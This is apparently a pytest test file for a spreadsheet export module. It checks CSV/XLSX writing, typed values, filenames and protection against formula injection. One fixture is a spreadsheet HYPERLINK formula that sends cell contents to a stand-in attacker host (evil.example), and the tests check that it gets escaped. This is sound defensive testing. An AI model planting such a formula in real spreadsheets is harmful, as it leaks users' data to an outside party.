import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tryggsam.core.spreadsheets import cell_value, export_filename, spreadsheet_response, write_csv, write_xlsx

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
HEADERS = ["Rubrik", "Antal", "Andel", "Datum", "När"]
STOCKHOLM = ZoneInfo("Europe/Stockholm")

# Text that begins with neither a dangerous character nor whitespace and holds no control characters.
safe_text = st.builds(
    lambda first, rest: first + rest,
    st.characters(blacklist_categories=("Cc", "Cs", "Zs", "Zl", "Zp"), blacklist_characters="=+-@"),
    st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")), max_size=40),
)
dangerous_text = st.builds(lambda first, rest: first + rest, st.sampled_from(DANGEROUS), st.text(max_size=40))


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(body: bytes) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [tuple(c for c in row) for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+46 8 123 45", "'+46 8 123 45"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\x01=1+1", "'=1+1"),  # a control character removed first does not hide the formula
        ("Torget = stökigt", "Torget = stökigt"),
        ("rad ett\nrad två", "rad ett\nrad två"),
    ],
)
def test_cell_value__text(value, expected):
    assert cell_value(value) == expected


@pytest.mark.parametrize("value", [-5, 0, -2.5, Decimal("-1.25"), dt.date(2026, 12, 2), True, None])
def test_cell_value__numbers_dates_and_empty_stay_typed(value):
    assert cell_value(value) == value


def test_cell_value__aware_datetime_in_local_time_without_zone():
    value = cell_value(dt.datetime(2026, 12, 2, 13, 30, tzinfo=dt.UTC))
    assert value == dt.datetime(2026, 12, 2, 14, 30) and value.tzinfo is None


def test_cell_value__non_finite_float_is_empty():
    assert cell_value(float("nan")) is None and cell_value(float("-inf")) is None


@given(dangerous_text)
@settings(max_examples=300)
def test_cell_value__dangerous_start_always_escaped(text):
    escaped = cell_value(text)
    assert escaped.startswith("'")
    assert escaped[1] == text[0]


@given(safe_text)
@settings(max_examples=300)
def test_cell_value__safe_text_unchanged(text):
    assert cell_value(text) == text


def test_write_csv__semicolons_bom_escaped_text_typed_values():
    rows = [
        [HYPERLINK, -5, -2.5, dt.date(2026, 12, 2), dt.datetime(2026, 12, 2, 8, 15, tzinfo=STOCKHOLM)],
        ["Kvällar; helger\n”citat”", None, Decimal("3.75"), None, None],
    ]
    parsed = read_csv(write_csv(HEADERS, rows))
    assert parsed[0] == HEADERS
    assert parsed[1] == ["'" + HYPERLINK, "-5", "-2,5", "2026-12-02", "2026-12-02 08:15"]
    assert parsed[2] == ["Kvällar; helger\n”citat”", "", "3,75", "", ""]


def test_write_csv__many_rows_from_a_generator():
    parsed = read_csv(write_csv(["Nr"], ([i] for i in range(2500))))
    assert len(parsed) == 2501 and parsed[-1] == ["2499"]


def test_write_xlsx__escaped_text_is_a_string_and_values_keep_their_types():
    rows = [
        [HYPERLINK, -5, -2.5, dt.date(2026, 12, 2), dt.datetime(2026, 12, 2, 8, 15, tzinfo=STOCKHOLM)],
        ["#N/A", None, Decimal("3.75"), None, None],
    ]
    body = write_xlsx("Händelser", HEADERS, rows)
    cells = read_xlsx(body)
    assert [c.value for c in cells[0]] == HEADERS and cells[0][0].font.bold
    title, number, share, day, when = cells[1]
    assert title.value == "'" + HYPERLINK and title.data_type == "s"
    assert number.value == -5 and number.data_type == "n"
    assert share.value == -2.5
    assert day.value == dt.datetime(2026, 12, 2) and day.is_date
    assert when.value == dt.datetime(2026, 12, 2, 8, 15)
    assert cells[2][0].value == "#N/A" and cells[2][0].data_type == "s"  # not an error cell
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@given(st.text(max_size=60))
@settings(max_examples=40, deadline=None)
def test_write_xlsx__any_text_is_stored_as_a_string_never_a_formula(text):
    cell = read_xlsx(write_xlsx("Test", ["Text"], [[text]]))[1][0]
    if cell.value is not None:  # text of control characters only leaves an empty cell
        assert cell.data_type == "s"
        assert not str(cell.value).lstrip().startswith(("=", "+", "-", "@"))


def test_write_xlsx__sheet_title_made_valid():
    body = write_xlsx("Arbetstabell [Torget]: vad/när? * och mycket mer text", ["A"], [])
    title = openpyxl.load_workbook(io.BytesIO(body)).active.title
    assert len(title) <= 31 and not set(title) & set("[]:*?/\\")


def test_export_filename__slug_and_date():
    name = export_filename("arbetstabell", "Platssamverkan Älvsjö torg", fmt="xlsx", day=dt.date(2026, 12, 2))
    assert name == "arbetstabell-platssamverkan-alvsjo-torg-2026-12-02.xlsx"
    assert export_filename("handelser", "", fmt="csv", day=dt.date(2026, 1, 5)) == "handelser-2026-01-05.csv"


def test_spreadsheet_response__attachment_not_cached():
    response = spreadsheet_response(fmt="csv", filename="x-2026-12-02.csv", sheet_title="X", headers=["A"], rows=[])
    assert response["Content-Disposition"] == 'attachment; filename="x-2026-12-02.csv"'
    assert response["Content-Type"].startswith("text/csv") and "no-store" in response["Cache-Control"]


def test_spreadsheet_response__unknown_format_refused():
    with pytest.raises(ValueError):
        spreadsheet_response(fmt="ods", filename="x.ods", sheet_title="X", headers=["A"], rows=[])
